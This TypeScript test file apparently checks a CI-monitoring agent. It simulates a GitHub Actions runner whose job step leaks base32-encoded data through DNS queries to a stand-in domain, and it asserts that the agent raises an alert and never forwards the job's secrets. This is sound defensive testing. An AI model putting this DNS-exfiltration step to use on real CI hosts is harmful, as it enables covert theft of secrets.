// A CI job found without `telltale run`: a stand-in GitHub runner (a copy of bash named
// Runner.Worker, as the real job executor is named) starts a job step that leaks over DNS.
// The agent reads the step's allowlisted CI variables and tracks the job as a build; the
// secrets in the job's environment never leave the host.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { copyFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { startDnsServer, type DnsServer } from '../support/dns-server.js';
import { getJson, startAgent, startCollector, type Daemon } from '../support/telltale-procs.js';

const SEND = fileURLToPath(new URL('../evasion/send-query.mjs', import.meta.url));
const LEAK = 'mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpi2dk.nrxw4zlbmjrwmzjq.exfil-drill.test';
const SECRET = 'wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY';
const CARGO_LOCK = fileURLToPath(new URL('../fixtures/cargo-exfil/Cargo.lock', import.meta.url));

describe('CI jobs found on the host', () => {
  let dir: string;
  let dns: DnsServer;
  let collector: Daemon & { httpUrl: string; grpcAddress: string };
  let agent: Daemon;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'telltale-ci-jobs-'));
    dns = await startDnsServer({ host: '127.0.0.1', port: 0 });
    collector = await startCollector(join(dir, 'collector'));
    agent = await startAgent(join(dir, 'agent'), collector.grpcAddress, [dns.port]);
  });
  afterAll(async () => {
    await agent?.stop();
    await collector?.stop();
    await dns?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('tracks a GitHub Actions job as a build named from its variables, and alerts on its leak', async () => {
    const worker = join(dir, 'Runner.Worker');
    copyFileSync('/bin/bash', worker);
    const workspace = mkdtempSync(join(dir, 'workspace-'));
    const env = {
      GITHUB_WORKSPACE: workspace,
      PATH: process.env.PATH ?? '/usr/bin:/bin', GITHUB_ACTIONS: 'true', GITHUB_REPOSITORY: 'acme/payments', GITHUB_RUN_ID: '9001', GITHUB_RUN_ATTEMPT: '1',
      GITHUB_JOB: 'build', GITHUB_SHA: '0123abcd', GITHUB_WORKFLOW_REF: 'acme/payments/.github/workflows/ci.yml@refs/heads/main',
      GITHUB_TOKEN: 'ghs_do_not_forward', AWS_SECRET_ACCESS_KEY: SECRET,
    };
    // The worker runs its steps (child processes), as Runner.Worker does, then exits: a
    // "checkout" that puts a Cargo.lock in the workspace, then the step that leaks.
    const step = `${process.execPath} ${SEND} udp ${dns.port} ${LEAK}`;
    const code = await new Promise<number | null>((resolve) => {
      const p = spawn(worker, ['-c', `cp ${CARGO_LOCK} ${workspace}/Cargo.lock; bash -c '${step}'; sleep 0.3`], { env, stdio: 'ignore' });
      p.once('exit', (c) => resolve(c));
    });
    expect(code).toBe(0);
    expect(dns.queries.some((q) => q.name === LEAK)).toBe(true);
    const pipeline = 'acme/payments:.github/workflows/ci.yml';
    let builds: { id: string; pipeline: string; runId: string; job: string; repo: string; commit: string; ciProvider: string; state: string }[] = [];
    const deadline = Date.now() + 15_000;
    while (Date.now() < deadline) {
      builds = (await getJson<{ builds: typeof builds }>(`${collector.httpUrl}/api/builds?pipeline=${encodeURIComponent(pipeline)}`)).builds;
      if (builds[0]?.state === 'succeeded') break;
      await new Promise((r) => setTimeout(r, 200));
    }
    expect(builds, agent.output()).toHaveLength(1);
    expect(builds[0]).toMatchObject({ pipeline, runId: '9001.1', job: 'build', repo: 'acme/payments', commit: '0123abcd', ciProvider: 'github', state: 'succeeded' });
    const alerts = (await getJson<{ alerts: { kind: string; qname: string }[] }>(`${collector.httpUrl}/api/alerts?buildId=${builds[0]!.id}`)).alerts;
    expect(alerts.map((a) => [a.kind, a.qname])).toContainEqual(['encoded_dns_label', LEAK]);
    // Nothing but the allowlisted variables was read: the job's secrets are nowhere in the collector.
    const detail = JSON.stringify(await getJson(`${collector.httpUrl}/api/builds/${builds[0]!.id}`));
    expect(detail).not.toContain(SECRET);
    expect(detail).not.toContain('ghs_do_not_forward');
    expect(agent.output()).not.toContain(SECRET);
    // The job's workspace is where its CI says: the lockfile the checkout step put there was
    // reported when the next step started.
    const { lockfiles } = await getJson<{ lockfiles: { path: string; status: string; packages: number }[] }>(`${collector.httpUrl}/api/builds/${builds[0]!.id}`);
    expect(lockfiles.map((l) => [l.path, l.status, l.packages])).toEqual([['Cargo.lock', 'parsed', 4]]);
  });
});
